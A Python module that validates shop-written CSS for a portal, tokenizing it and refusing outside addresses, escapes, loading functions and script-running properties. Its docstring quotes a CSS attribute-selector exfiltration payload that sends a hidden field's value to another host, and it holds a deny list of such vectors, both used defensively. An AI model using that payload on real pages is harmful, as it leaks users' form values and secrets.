"""Which style sheets a shop may write for its portal: those that load nothing from elsewhere.

A sheet that may name an address elsewhere reads the page: `input[value^=a] { background: url(//elsewhere/a) }` tells
letter by letter what stands in a hidden field. So the text is read as CSS Syntax Level 3 does, token by token, and
only addresses of our own pictures are let through. Escapes (`@\\69mport`) are refused altogether: without them an
identifier is what it looks like.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass

MAX_CSS = 20_000

# Each says what a token begins with; the order is that of the specification's "consume a token".
_TOKEN = re.compile(
    r"""
    (?P<comment> /\* (?: .*? \*/ | .* \Z ) )
  | (?P<string>  "[^"\n]*["\n]? | '[^'\n]*['\n]? )
  | (?P<at>      @ -{0,2} [A-Za-z_\u0080-\U0010ffff] [\w\u0080-\U0010ffff-]* )
  | (?P<function> -{0,2} [A-Za-z_\u0080-\U0010ffff] [\w\u0080-\U0010ffff-]* \( )
  | (?P<word>    -{0,2} [A-Za-z_\u0080-\U0010ffff] [\w\u0080-\U0010ffff-]* )
  | (?P<number>  [-+]? (?: \d* \. \d+ | \d+ ) (?: % | [\w\u0080-\U0010ffff-]* ) )
  | (?P<hash>    \# [\w\u0080-\U0010ffff-]+ )
  | (?P<open>    [\[({] )
  | (?P<close>   [\])}] )
  | (?P<space>   \s+ )
  | (?P<sign>    . )
    """,
    re.VERBOSE | re.DOTALL | re.ASCII,
)
_AT_RULES = re.compile(
    r"media|supports|container|layer|scope|(-webkit-)?keyframes|font-face|page|property|counter-style|starting-style|"
    r"font-feature-values|font-palette-values|view-transition|position-try"
)
# What takes an address: url() alone is let through, with an address of ours. `image-set("…")` needs no url() inside.
_LOADING = re.compile(
    r"(-[a-z]+-)?(src|image|image-set|cross-fade|element|image-rect|canvas|paint|expression|url-prefix|domain|regexp)"
)
_RUNNING = re.compile(r"(-[a-z]+-)?(behavior|binding)|progid")
_MEDIA = re.compile(r"/media/[A-Za-z0-9_]+/[A-Za-z0-9_-][A-Za-z0-9_.-]*")
_PICTURE = re.compile(r"data:image/(?:png|jpeg|webp|gif|avif|svg\+xml)(?:;[a-z0-9=-]+)*,[A-Za-z0-9+/=%._~:;,!*-]*")
_URL = re.compile(r"""[ \t\n]*(?:"(?P<double>[^"\n]*)"|'(?P<single>[^'\n]*)'|(?P<bare>[^\s"'()]*))[ \t\n]*\)""")
_CLOSING = {"(": ")", "[": "]", "{": "}"}


@dataclass(frozen=True)
class Refused:
    """What is not taken, the line that it stands in (from 1), and why (`code`)."""

    code: str
    line: int
    found: str


def wrong(css: str) -> Refused | None:
    """The first thing in a style sheet that is not taken; None when all of it is. Its length is not asked here."""
    text = css.replace("\r\n", "\n").replace("\r", "\n").replace("\f", "\n")
    found = next(_wrongs(text), None)
    if found is None:
        return None
    code, at, what = found
    return Refused(code, text.count("\n", 0, at) + 1, what[:60])


def _wrongs(text: str) -> Iterator[tuple[str, int, str]]:
    for sign in ("\\", "\0", "<!--", "-->", "</"):
        if sign in text:
            yield ("css-escape" if sign == "\\" else "css-character"), text.index(sign), sign.replace("\0", "U+0000")
    at, expected = 0, []
    while token := _TOKEN.match(text, at):
        kind, told, start, at = str(token.lastgroup), token[0], at, token.end()
        if kind == "function" and told[:-1].lower() == "url":
            address = _URL.match(text, at)
            if address is None or not _is_ours(address):
                yield "css-address", start, _line_from(text, start)
                return
            at = address.end()
            continue
        code = _refusal(kind, told, text, start)
        if code:
            yield code, start, told
        if kind == "open" or kind == "function":
            expected.append(_CLOSING[told[-1]])
        if kind == "close" and (not expected or expected.pop() != told):
            yield "css-unbalanced", start, told
            return
    if expected:
        yield "css-unbalanced", max(len(text) - 1, 0), expected[-1]


def _refusal(kind: str, told: str, text: str, start: int) -> str | None:
    name = told.lower()
    if kind == "at" and not _AT_RULES.fullmatch(name[1:]):
        return "css-at-rule"
    if kind == "function" and _LOADING.fullmatch(name[:-1]):
        return "css-address"
    if kind == "word" and _RUNNING.fullmatch(name):
        return "css-running"
    unended = kind == "comment" and not (len(told) >= 4 and told.endswith("*/"))
    if unended or (kind == "string" and (len(told) < 2 or told[-1] != told[0])):
        return "css-unbalanced"
    return None


def _is_ours(address: re.Match[str]) -> bool:
    told = next(part for part in (address["double"], address["single"], address["bare"]) if part is not None)
    return bool((_MEDIA.fullmatch(told) and ".." not in told) or _PICTURE.fullmatch(told))


def _line_from(text: str, start: int) -> str:
    return text[start:].partition("\n")[0]
